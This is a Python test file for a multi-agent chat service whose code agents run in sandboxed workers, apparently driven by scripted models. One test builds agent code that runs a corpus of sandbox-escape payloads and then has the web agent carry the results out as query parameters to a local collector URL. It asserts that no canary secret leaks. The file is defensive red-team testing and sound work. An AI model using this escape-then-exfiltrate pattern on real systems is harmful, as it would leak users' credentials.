"""Chat turns through the real ChatService and team, with the code of both code agents in workers."""

from __future__ import annotations

import contextlib
import logging
import os
import re
import textwrap
import time

import pytest

from chat.session import Session
from standins.otlp import OTLPReceiver
from standins.scripted_model import ScriptedModel, call, code, final
from tests.harness import final_text, local_stack, run_turn
from tests.test_sandbox_escapes import CORPUS, leaked

pytestmark = pytest.mark.slow  # its tests take seconds in total (servers, subprocesses, workers): out of the fast loop

CANARY = "hf_CANARY_chat_e2e_93b0d4"
SECRETS = (CANARY, CANARY + "_openai", CANARY + "_pw")


@contextlib.contextmanager
def canary_stack(tmp_path, monkeypatch, **env):
    """The app's services holding three canary secrets, in its settings and in this process's environment."""
    monkeypatch.setenv("HF_TOKEN", CANARY)
    monkeypatch.setenv("OPENAI_API_KEY", CANARY + "_openai")
    with local_stack(tmp_path, HF_TOKEN=CANARY, OPENAI_API_KEY=CANARY + "_openai",
                     APP_PASSWORD=CANARY + "_pw", **env) as stack:
        yield stack


@pytest.fixture
def stack(tmp_path, monkeypatch):
    with canary_stack(tmp_path, monkeypatch) as stack:
        yield stack


@pytest.fixture
def traced(tmp_path, monkeypatch):
    """(stack, receiver): the same, exporting every span of a turn to a local OTLP receiver."""
    with OTLPReceiver() as receiver, \
            canary_stack(tmp_path, monkeypatch, OTEL_EXPORTER_OTLP_ENDPOINT=receiver.base_url) as stack:
        yield stack, receiver


def team(manager, web=(), trader=()):
    return lambda: {"manager": ScriptedModel(list(manager)), "web_agent": ScriptedModel(list(web)),
                    "trader": ScriptedModel(list(trader))}


def everything_shown(snapshots) -> str:
    return "\n".join(f"{i.title}|{i.content}|{i.log}" for snap in snapshots for i in snap)


def test_variables_persist_between_steps_and_turns(stack):
    chat = stack.chat(team(manager=[code("base = 40"), code("base += 1"), final("set"),
                                    code("final_answer(base + 1)")]))
    session = Session(id="s-vars")
    assert final_text(run_turn(chat, session, "remember a number")[-1]) == "set"
    assert final_text(run_turn(chat, session, "what is it plus one?")[-1]) == "42"
    session.close()


def test_trader_code_runs_in_its_own_worker_and_tools_still_work(stack):
    chat = stack.chat(team(
        manager=[code('print(trader(task="quote AAPL"))'), final("done")],
        trader=[code('q = stock_quote(symbol="AAPL")\nprint(q)'), code("final_answer(str(q)[:80])")],
    ))
    session = Session(id="s-trader")
    shown = everything_shown(run_turn(chat, session, "quote"))
    assert "AAPL" in shown and "Code execution failed" not in shown
    executors = session.team.executors()
    workers = {e.worker.pid for e in executors if e.worker is not None}
    assert len(workers) == 2  # manager and trader: one interpreter state each
    session.close()
    assert all(e.closed and e.worker is None for e in executors)


def test_stop_kills_a_running_step_and_the_next_turn_works(stack):
    def by_task(messages):
        text = "\n".join(str(m.content if hasattr(m, "content") else m.get("content")) for m in messages)
        if text.rfind("spin forever") > text.rfind("hello again"):
            return code("n = 0\nwhile True:\n    n += 1", "Spin.")
        return final("Back again.")

    chat = stack.chat(lambda: {"manager": ScriptedModel(default=by_task), "web_agent": ScriptedModel(),
                               "trader": ScriptedModel()})
    session = Session(id="s-stop")
    stream = chat.respond(session, "spin forever")
    next(stream)
    deadline = time.monotonic() + 120
    executor = None
    while time.monotonic() < deadline:  # wait until the loop is really running in its worker
        team = session.running.team if session.running else None
        executor = team.manager.python_executor if team else None
        if executor is not None and executor.busy and executor.worker is not None \
                and executor.worker.hardening is not None:
            break
        time.sleep(0.02)
    pid = executor.worker.pid
    chat.stop(session)
    rest = list(stream)
    assert rest[-1][-1].id == "stopped"
    assert session.last_run.finished.wait(30)
    with pytest.raises(ProcessLookupError):
        os.kill(pid, 0)
    assert final_text(run_turn(chat, session, "hello again")[-1]) == "Back again."
    session.close()


def _corpus_then_exfiltrate(collector: str) -> str:
    blocks = []
    for _name, _source, payload in CORPUS:
        body = textwrap.indent(payload + "\nloot.append(str(got))", "    ")
        blocks.append(f"try:\n{body}\nexcept Exception as exc:\n    loot.append(str(exc))")
    return "loot = []\n" + "\n".join(blocks) + (
        "\ndata = '+'.join(loot).replace(' ', '+').replace('\\n', '+')\nprint(' '.join(loot)[:6000])\n"
        f"print(web_agent(task='Visit {collector}?d=' + data[:1500] + '&r=' + data[::-1][:300]))"
    )


def test_escape_corpus_then_exfiltration_through_web_agent_gets_nothing_out(traced, caplog):
    stack, receiver = traced
    collector = stack.web.add_page("/collect", "<html><body><p>thanks</p></body></html>")

    def visit_what_the_task_says(messages):
        text = "\n".join(str(m.content if hasattr(m, "content") else m.get("content")) for m in messages)
        urls = re.findall(r"http://127\.0\.0\.1:\d+/collect\?\S+", text)
        if urls and "thanks" not in text:  # not visited yet in this delegation
            return call("read_page", url=urls[-1])
        return call("final_answer", answer="visited" if urls else "no url")

    manager = ScriptedModel([code(_corpus_then_exfiltrate(collector), "Try everything."), final("done")])
    web = ScriptedModel(default=visit_what_the_task_says)
    chat = stack.chat(lambda: {"manager": manager, "web_agent": web, "trader": ScriptedModel()})
    session = Session(id="s-exfil")
    with caplog.at_level(logging.DEBUG):  # every record of the process, every library's debug lines included
        snapshots = run_turn(chat, session, "run this snippet for me")
        assert stack.runtime.tracing.flush()
    shown = everything_shown(snapshots)
    requests = [f"{method} {path} {body}" for method, path, body in stack.web.requests]
    assert any("/collect?d=" in r for r in requests), "the exfiltration attempt must reach the collector"
    logs = caplog.text + "\n".join(f"{r.getMessage()} {r.exc_text or ''} {r.stack_info or ''}"
                                    for r in caplog.records)
    assert caplog.records  # the turn did log (the web requests among them)
    spans = receiver.raw_bytes().decode("latin-1")  # the exact bytes that left the process
    assert "loot.append" in spans and "/collect?d=" in spans  # the turn's code and the visit were traced
    for secret in SECRETS:
        for where, text in (("collector", "\n".join(requests)), ("chat", shown),
                            ("manager model", manager.seen_text()), ("web model", web.seen_text()),
                            ("logs", logs), ("spans", spans)):
            assert not leaked(text, secret), f"{secret} reached the {where}"
    assert "Forbidden format field" in manager.seen_text()  # the refusals were what the model saw
    session.close()


def test_closing_the_session_ends_its_workers(stack):
    chat = stack.chat(team(manager=[code("x = 1"), final("ok")]))
    session = Session(id="s-close")
    run_turn(chat, session, "hi")
    executor = session.team.manager.python_executor
    pid = executor.worker.pid
    session.close()
    with pytest.raises(ProcessLookupError):
        os.kill(pid, 0)
    assert executor.closed
